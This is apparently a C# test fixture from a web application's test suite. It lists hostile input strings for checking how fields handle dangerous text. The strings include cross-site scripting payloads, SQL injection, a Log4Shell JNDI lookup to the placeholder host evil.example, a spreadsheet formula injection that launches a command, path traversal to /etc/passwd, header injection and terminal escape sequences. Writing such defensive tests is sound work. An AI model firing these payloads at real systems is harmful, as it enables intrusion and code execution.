namespace PermitScreen.Web.Tests.Hostile;

/// <summary>Texts that do harm wherever somebody shows, stores or runs them as they are.</summary>
internal static class HostileTexts
{
    /// <summary>Where a stranger would like to lead people.</summary>
    public const string Elsewhere = "evil.example";

    public static readonly string[] All =
    [
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'><svg onload=alert(1)>", "</textarea></title><iframe src=//evil.example>", "<a href=javascript:alert(1)>x</a>",
        "\u001b[2J\u001b[31m", "\u001b]0;owned\u0007", "\u009b31m", "\u202Egnp.exe", "\r\nSet-Cookie: a=b", "'; DROP TABLE decisions; --", "%' OR '1'='1", "${jndi:ldap://evil.example/x}",
        "{{7*7}}@(7*7)", "%00", "\u0000", "../../../../etc/passwd", "=cmd|' /C calc'!A0", "\uFFFD\uFEFF", "𝕏😀\u0301\u0301\u0301", "{0}{99}", new('长', 3000),
    ];

    /// <summary>Every second text, another half for each field: a page of a self-check takes its time.</summary>
    public static IEnumerable<string> Half(int field) => All.Where((_, i) => (i + field) % 2 == 0);
}
